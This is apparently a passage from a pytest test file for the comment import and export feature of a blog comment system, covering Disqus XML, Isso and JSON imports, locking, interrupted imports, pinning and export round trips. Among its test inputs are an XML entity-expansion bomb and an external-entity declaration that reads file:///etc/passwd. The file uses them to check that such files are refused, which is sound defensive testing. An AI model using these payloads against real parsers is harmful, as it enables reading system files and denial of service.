    path, long = tmp_path / "crafted", "x" * 500_000
    path.write_text(start + "".join(piece.format(at=at, long=long) for at in range(40)) + end)
    tracemalloc.start()
    run(path, is_dry=True)
    peak_bytes = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak_bytes < 20 * len(long)


def fault(path: Path) -> str:
    with pytest.raises(FileError) as raised:
        run(path)
    assert stored() == []
    return raised.value.message.removeprefix(str(path))


BOMB = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]>'
OUTSIDE = '<?xml version="1.0"?>\n<!DOCTYPE disqus SYSTEM "file:///etc/passwd">'


@pytest.mark.parametrize("start", [BOMB, OUTSIDE])
def test_a_file_that_declares_entities_is_refused(tmp_path: Path, start: str) -> None:
    path = tmp_path / "bomb.xml"
    path.write_text(start + DISQUS + "<post>&b;</post></disqus>")
    assert "entities are refused" in fault(path)


def test_a_cut_file_is_told_with_its_line_and_stores_nothing(tmp_path: Path) -> None:
    path = tmp_path / "cut.xml"
    path.write_text(DISQUS + "\n" + post(1) + post(2) + "<post>")
    assert fault(path).startswith(":4: It is no XML from here on")


@pytest.mark.parametrize(
    ("inside", "words"),
    [
        ("<post>" + "<a>" * 150, "nested deeper"),
        ("<post><message>" + "x" * 1_200_000, "longer than"),
        ('<post a="' + "x" * 1_200_000, "longer than"),
        ("<post>" + "".join(f"<a{at}/>" for at in range(20_000)), "longer than"),
        ("<post " + " ".join(f'a{at}=""' for at in range(20_000)) + ">", "longer than"),
    ],
)
def test_xml_beyond_all_measure_is_told_with_its_line(
    tmp_path: Path, inside: str, words: str
) -> None:
    path = tmp_path / "large.xml"
    path.write_text(f"{DISQUS}\n\n{inside}")
    assert re.match(rf":3: .*{words}", fault(path))


def test_an_encoding_nobody_knows_is_told(tmp_path: Path) -> None:
    path = tmp_path / "strange.xml"
    path.write_text('<?xml version="1.0" encoding="shift_jis"?>' + DISQUS)
    assert "can be imported" in fault(path)


def test_a_mark_of_the_order_of_bytes_and_names_given_twice_are_no_harm(tmp_path: Path) -> None:
    path = own(tmp_path, {"name": "Nomsa"})
    twice = path.read_bytes().replace(b'"name": "Nomsa"', b'"name": "Zola", "name": "Nomsa"')
    path.write_bytes(b"\xef\xbb\xbf" + twice)
    assert run(path).imported == 1
    assert stored()[0].name == "Nomsa"


def test_a_number_is_read_whole_wherever_a_piece_of_the_file_ends(tmp_path: Path) -> None:
    path = tmp_path / "numbers.json"
    for pad in range(streams.CHUNK_BYTES - 20, streams.CHUNK_BYTES):
        path.write_text(json.dumps(["x" * pad, 123456]))
        assert [each.value for each in streams.values(streams.Source(path), "item")][1] == 123456


@pytest.mark.parametrize(
    ("inside", "words"),
    [
        (b'{"format": 1, "comments": [\n\n{"id": 1', ":3: It is no JSON from here on, or was cut"),
        (b'{"format": 1, "comments": [\n{"id" 1}]}', ":2: It is no JSON from here on"),
        (b'{"format": 1, "comments": [\r\n1\r\n2]}', ":3: It is no JSON from here on"),
        (b'{"format": 1, 7: 1}', "object key"),
        (b'{"format": 1, "x": ' + b"[" * 200, ":1: This is nested deeper"),
        (b'{"format": 1, "comments": [' + b"[" * 200_000, "nested deeper"),
        (b'{"format": 1, "comments": [' + b'{"a":' * 200_000, "nested deeper"),
        (b'{"format": 1, "x": ' + b"9" * 5_000 + b"}", "integer overflow"),
        (b'{"format": 1, "x": NaN}', "no JSON from here on"),
        (b'{"format": 1, "x": "' + b"y" * 1_200_000, "longer than"),
        (
            b'{"format": 1, "comments": [["' + b'y", "' * 600_000,
            "longer than",
        ),
        (b'{"format": 1, "comments": [[' + b"0," * 1_200_000, "longer than"),
        (b'{"format": 1,\n "x": "' + b"y" * 70_000 + b'\xff"}', ":2: It is no JSON"),
    ],
)
def test_json_that_is_broken_or_beyond_measure_is_told(
    tmp_path: Path, inside: bytes, words: str
) -> None:
    path = tmp_path / "broken.json"
    path.write_bytes(inside)
    assert words in fault(path)


@pytest.mark.parametrize(
    "inside",
    [
        b"",
        b"words",
        b"<html></html>",
        b"<",
        b"{}",
        b'{"a": 1}',
        b"[1, 2]",
        b'[{"a": {"comments": 1}}]',
        b"{",
        b'{"a',
        b"\x00\x01",
        b"<?xml",
    ],
)
def test_a_file_that_is_none_of_these_is_told_what_could_be(tmp_path: Path, inside: bytes) -> None:
    path = tmp_path / "something"
    path.write_bytes(inside)
    assert "Known are the exports of Disqus" in fault(path)


def test_broken_packing_and_broken_databases_are_told(tmp_path: Path) -> None:
    packed = tmp_path / "cut.gz"
    packed.write_bytes(gzip.compress((DATA / "remark.json").read_bytes())[:-200])
    assert "compression is broken" in fault(packed)
    database = tmp_path / "broken.db"
    database.write_bytes(b"SQLite format 3\0" + b"x" * 5_000)
    assert "no database of Isso that can be read" in fault(database)


# What ends early


def test_an_import_that_fails_leaves_nothing_and_the_next_one_does_all(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = disqus(tmp_path, *(post(at, parent=at - 1) for at in range(1, 6)))
    with monkeypatch.context() as broken:
        broken.setattr(storing, "BATCH", 2)
        broken.setattr(fulltext, "put", _failing_at(3, fulltext.put))
        with pytest.raises(KeyboardInterrupt):
            run(path)
    assert stored() == []
    assert run(path).imported == 5


def _failing_at(times: int, verb: Callable[..., None]) -> Callable[..., None]:
    called = []

    def act(*arguments: Any) -> None:
        called.append(1)
        if len(called) == times:
            raise KeyboardInterrupt
        verb(*arguments)

    return act


def test_what_is_being_imported_is_nobodys_to_see_or_change(
    author: Visitor, tmp_path: Path
) -> None:
    seen: list[object] = []

    def look(*_: object) -> None:
        (hidden,) = stored()
        seen.extend([hidden.state, comments.by_id(hidden.id)])
        with db.writing():
            seen.extend(comments.by_ids([hidden.id]))
        seen.append(sum(comments.counts().values()) + len(comments.recent()))
        seen.append(thread.visible_on(article(SECOND)).total)
        seen.append(author.get(f"/admin/comments/{hidden.id}").status_code)
        imports.tidy(CLOCK)
        seen.append(len(stored()))
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        imports.run(disqus(tmp_path, post(1)), Wish(), progress=look, now=CLOCK)
    assert seen == ["importing", None, 0, 0, 404, 1]
    assert stored() == []


def test_what_a_killed_import_left_is_swept_by_the_next(tmp_path: Path) -> None:
    path = disqus(tmp_path, *(post(at, parent=at - 1) for at in range(1, 4)))
    run(path)
    with db.writing():
        db.session.execute(text("UPDATE comment SET state = 'importing'"))
        db.session.add(CommentImport())
    before = {comment.id for comment in stored()}
    assert run(path).imported == 3
    assert before.isdisjoint(comment.id for comment in stored())
    assert not storing.is_left()


@pytest.mark.parametrize("door", ["the worker", "the same again", "another file", "a dry run"])
def test_an_import_that_ends_while_it_publishes_is_finished(
    door: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    states = [{"state": state} for state in ("pending", "approved", "spam", "approved", "pending")]
    path = own(tmp_path, *states)
    with monkeypatch.context() as broken:
        broken.setattr(storing, "PUBLISHED_AT_ONCE", 2)
        broken.setattr(revision, "touch", _failing_at(2, revision.touch))
        with pytest.raises(KeyboardInterrupt):
            run(path)
    hidden = "importing"
    assert [row.state for row in stored()] == [hidden, "approved", "spam", hidden, hidden]
    if door == "the worker":
        while storing.is_left():
            imports.tidy(CLOCK)
    elif door == "another file":
        run(disqus(tmp_path, post(1)))
    else:
        assert run(path, is_dry=door == "a dry run").known == 5
    assert [row.state for row in stored()][:5] == [row["state"] for row in states]
    imports.tidy(CLOCK)
    verbs = [line.verb for line in journal.recent()]
    assert verbs == ["imported"] * (2 if door == "another file" else 1)


def test_comments_are_published_some_at_a_time_and_those_that_wait_last(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(storing, "PUBLISHED_AT_ONCE", 2)
    seen: list[list[str]] = []
    touch = revision.touch

    def look(session: Any) -> None:
        query = select(Comment.state).where(Comment.state != CommentState.IMPORTING)
        seen.append(sorted(session.execute(query).scalars()))
        touch(session)

    monkeypatch.setattr(revision, "touch", look)
    run(own(tmp_path, {"state": "pending"}, {}, {}, {}))
    some = ["approved"] * 2
    assert seen == [some, ["approved", *some], ["approved", *some, "pending"]]


def test_moderators_are_told_once_of_many_imported_comments_that_wait(
    clock: Clock, reader: Visitor, tmp_path: Path
) -> None:
    def post_and_tell(*_: object) -> None:
        reader.comment("This waits with a greater number than those of the file")
        notices.tell(db.utc_now())

    path = own(tmp_path, *[{"state": "pending"}] * 50)
    imports.run(path, Wish(), progress=post_and_tell, now=CLOCK)
    for _ in range(5):
        clock.move(minutes=20)
        outbox.deliver_due(FileTransport(tmp_path), worker="worker", clock=db.utc_now)
        notices.tell(db.utc_now())
    query = select(OutgoingMail.subject).where(OutgoingMail.recipient == AUTHOR.email)
    subjects = db.session.execute(query.order_by(OutgoingMail.id)).scalars().all()
    assert [subject.split(" on ")[0] for subject in subjects] == [
        "A comment waits",
        "Many comments wait",
    ]


def test_two_imports_do_not_meet(tmp_path: Path) -> None:
    with storing.alone(), pytest.raises(Conflict, match="Another import is running"):
        run(disqus(tmp_path, post(1)))
    assert run(disqus(tmp_path, post(1))).imported == 1


@on_sqlite
@pytest.mark.parametrize("is_left_open", [False, True])
def test_only_the_owner_may_keep_imports_out(is_left_open: bool) -> None:
    lock = Path(f"{db.db.engine.url.database}.import")
    if is_left_open:
        lock.touch(mode=0o644)
    with storing.alone():
        assert stat.S_IMODE(lock.stat().st_mode) == 0o600


@on_postgresql
def test_the_lock_of_an_import_holds_no_transaction_open(tmp_path: Path) -> None:
    open_ones: list[int] = []

    def look(*_: object) -> None:
        is_open = "datname = current_database() AND state LIKE 'idle in transaction%'"
        query = select(func.count()).select_from(text("pg_stat_activity")).where(text(is_open))
        open_ones.append(db.session.execute(query).scalar_one())

    imports.run(disqus(tmp_path, post(1)), Wish(), progress=look, now=CLOCK)
    assert open_ones == [0]


def lose_lock() -> None:
    """Take its lock from an import, as who clears up files or connections may."""
    engine = db.db.engine
    if engine.dialect.name == "sqlite":
        Path(f"{engine.url.database}.import").unlink()
        return
    holders = "SELECT pg_terminate_backend(pid, 5000) FROM pg_locks WHERE locktype = 'advisory'"
    db.session.rollback()
    assert db.session.execute(text(holders)).scalars().all() == [True]


@pytest.mark.parametrize("count", [1, 3])
def test_an_import_that_lost_its_lock_and_was_swept_ends(
    count: int, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def be_swept(*_: object) -> None:
        lose_lock()
        imports.tidy(CLOCK)

    monkeypatch.setattr(storing, "BATCH", 2)
    path = own(tmp_path, *[{}] * count)
    with pytest.raises(Conflict, match="lost its lock"):
        imports.run(path, Wish(), progress=be_swept, now=CLOCK)
    assert stored() == []
    assert run(path).imported == count


def test_an_import_that_lost_its_lock_leaves_another_alone(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    begun: list[int] = []
    know = storing.know

    def let_another_begin(staged: Any) -> None:
        know(staged)
        lose_lock()
        with storing.alone():
            begun.append(storing.begin())

    monkeypatch.setattr(storing, "know", let_another_begin)
    with pytest.raises(Conflict, match="Another import is running"):
        run(own(tmp_path, {}))
    db.session.rollback()
    assert db.session.execute(select(CommentImport.id)).scalars().all() == begun


@pytest.mark.parametrize("is_whole", [False, True])
def test_the_worker_does_a_part_at_a_time_of_what_an_import_left(
    is_whole: bool, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    run(own(tmp_path, *[{}] * 5))
    with db.writing():
        db.session.execute(text("UPDATE comment SET state = 'importing'"))
        db.session.execute(text("INSERT INTO hidden_comment SELECT id, 'approved' FROM comment"))
        db.session.add(CommentImport(stored_at=CLOCK if is_whole else None))
    for name in ("BATCH", "PUBLISHED_AT_ONCE"):
        monkeypatch.setattr(storing, name, 2)
    monkeypatch.setattr(imports, "ROUND_SECONDS", 0)
    left = []
    for _ in range(4):
        imports.tidy(CLOCK)
        left.append([row.state for row in stored()].count(CommentState.IMPORTING))
    assert left == [3, 1, 0, 0]
    assert not storing.is_left()
    assert len(stored()) == (5 if is_whole else 0)


# Round trip


def everything() -> list[tuple[Any, ...]]:
    """Read all of all comments but their numbers."""
    numbers = {comment.id: at for at, comment in enumerate(stored())}
    columns = [
        column.name
        for column in Comment.__table__.columns
        if column.name not in ("told_at", "reader_hash", "trusted_reader_id")
    ]
    links = ("id", "parent_id", "root_id", "edit_of_id")
    rows = db.session.execute(select(*Comment.__table__.columns).order_by(Comment.id)).mappings()
    pinned = pins.among(numbers)
    return [
        (
            *((numbers.get(row[name]) if name in links else row[name]) for name in columns),
            row["id"] in pinned,
        )
        for row in rows
    ]


def export(path: Path, **choice: Any) -> Path:
    db.session.rollback()
    pieces = exports.write(exports.Kind.JSON, exports.Choice(**choice), now=CLOCK)
    path.write_text("".join(pieces))
    return path


def test_an_export_imported_elsewhere_is_the_same_to_the_last_field(
    reader: Visitor, tmp_path: Path
) -> None:
    for name in sorted(path.name for path in DATA.iterdir()):
        run(DATA / name, author=accounts.by_email(AUTHOR.email))
    name = "Nomsa, call 082 555 0134"
    assert reader.comment("Call 011 555 0100, *please*\r\nor not", name=name).status_code == 303
    latest = stored()[-1]
    root = next(row for row in stored() if row.parent_id is None and row.state == "approved")
    with db.writing():
        by = accounts.by_email(AUTHOR.email)
        assert by
        hidden, pinned = comments.by_ids([latest.id])[0], comments.by_ids([root.id])[0]
        hidden.hide("ZA", by=by, now=CLOCK)
        assert hidden.original_name == name
        hidden.approve(by=by, now=CLOCK)
        pins.pin(pinned, by=by, now=CLOCK)
        db.session.add(_edit(hidden))
    path, before = export(tmp_path / "all.json"), everything()
    assert run(path).known == len(before)
    assert everything() == before
    with db.writing():
        for table in (
            "notice_owed",
            "comment_trace",
            "comment_lesson",
            "comment_pin",
            "search_index_comment",
        ):
            db.session.execute(text(f"DELETE FROM {table}"))
        db.session.execute(text("UPDATE comment SET parent_id=NULL, root_id=NULL, edit_of_id=NULL"))
        db.session.execute(text("DELETE FROM comment"))
    assert run(path).imported == len(before)
    assert everything() == before


def _edit(comment: Comment) -> Comment:
    return Comment(
        article_id=comment.article_id,
        name=comment.name,
        source="An edit that waits",
        html="<p>An edit that waits</p>\n",
        html_policy=comment.html_policy,
        state=CommentState.PENDING,
        reasons=[],
        submission_key="key of an edit",
        edit_of_id=comment.id,
        created_at=CLOCK,
        edited_at=CLOCK,
    )


def test_edits_stand_beside_their_comment_or_are_left_out(tmp_path: Path) -> None:
    rejected: dict[str, object] = {"state": "rejected"}
    edits = [rejected | {"edit_of": at} for at in (1, 99, 2)]
    rows = [{"parent": 2}, {}, edits[0] | {"state": "pending"}, *edits[1:]]
    public = [{"edit_of": 2, "state": state} for state in ("approved", "spam")]
    gone = {"edit_of": 2, "state": "withdrawn", "source": ""}
    report = run(own(tmp_path, *rows, {"parent": 3}, *public, gone))
    found = {row.submission_key: row for row in stored()}
    reply, root = found["key 1"], found["key 2"]
    edit, edit_of_root = found["key 3"], found["key 5"]
    assert (edit.edit_of_id, edit.parent_id, edit.root_id) == (reply.id, root.id, root.id)
    assert (edit_of_root.edit_of_id, edit_of_root.parent_id, edit_of_root.root_id) == (
        root.id,
        None,
        None,
    )
    assert said(report, Kind.SKIPPED) == {
        "an edit in a state that edits can’t have": 2,
        "an edit of a comment that isn’t there": 1,
    }
    assert found["key 6"].parent_id is None
    assert found["key 9"].edit_of_id == root.id


def test_no_more_is_pinned_than_there_is_room_for(tmp_path: Path) -> None:
    run(own(tmp_path, *({"pinned_at": "2025-01-01T00:00:00Z"} for _ in range(5))))
    db.session.rollback()
    assert len(db.session.execute(select(CommentPin.comment_id)).all()) == pins.PINNED_MAX


def test_who_pins_while_an_import_runs_takes_no_place_from_its_comments(tmp_path: Path) -> None:
    run(own(tmp_path, {}, {}))
    ids = [row.id for row in stored()]
    by = accounts.by_email(AUTHOR.email)
    assert by

    def pin(*_: object) -> None:
        with db.writing():
            first, second = comments.by_ids(ids)
            pins.pin(first, by=by, now=CLOCK)
            with pytest.raises(Conflict, match="The import that is running brings comments"):
                pins.pin(second, by=by, now=CLOCK)

    more = [{"key": f"more {at}", "pinned_at": "2025-01-01T00:00:00Z"} for at in range(2)]
    imports.run(own(tmp_path, *more), Wish(), progress=pin, now=CLOCK)
    everybody = {row.id for row in stored()}
    assert pins.among(everybody) == everybody - {ids[1]}
    with pytest.raises(Conflict, match="3 comments are pinned already"), db.writing():
        pins.pin(comments.by_ids(ids)[1], by=by, now=CLOCK)
    assert len(everybody) == 4


def test_a_hidden_name_that_is_none_is_left_out(tmp_path: Path) -> None:
    run(own(tmp_path, *({"original_name": name} for name in ("N" * 81, ["Nomsa"], "Nomsa\0"))))
    assert [row.original_name for row in stored()] == [None, None, "Nomsa"]


def test_who_decided_and_who_wrote_are_known_by_their_accounts(tmp_path: Path) -> None:
    rows = [
        {"author": AUTHOR.email, "decided_by": AUTHOR.email, "decided_at": "2025-01-02T00:00:00Z"},
        {"author": "gone@clinic.example", "decided_by": "gone@clinic.example"},
        {"author": True},
    ]
    report = run(own(tmp_path, *rows))
    user = accounts.by_email(AUTHOR.email)
    assert user
    known, gone, unnamed = stored()
    assert (known.author_user_id, known.decided_by_id) == (user.id, user.id)
    assert [gone.author_user_id, gone.decided_by_id, unnamed.author_user_id] == [None] * 3
    assert sum(said(report, Kind.CHANGED).values()) == 2


def test_a_named_account_has_what_authors_wrote_who_are_not_known_here(tmp_path: Path) -> None:
    names = (AUTHOR.email.upper(), "gone@clinic.example", True, "x" * 400, None)
    path = own(tmp_path, *({"author": name} for name in names))
    authors = [getattr(each, "author", None) for each in formats.OWN.read(streams.Source(path))]
    assert authors == [AUTHOR.email, "gone@clinic.example", "", "", None]
    user, named = accounts.by_email(AUTHOR.email), accounts.by_email(MODERATOR.email)
    assert user
    assert named
    known, named_id = user.id, named.id
    assert said(run(path, author=named), Kind.CHANGED) == {}
    assert [row.author_user_id for row in stored()] == [known, *[named_id] * 3, None]
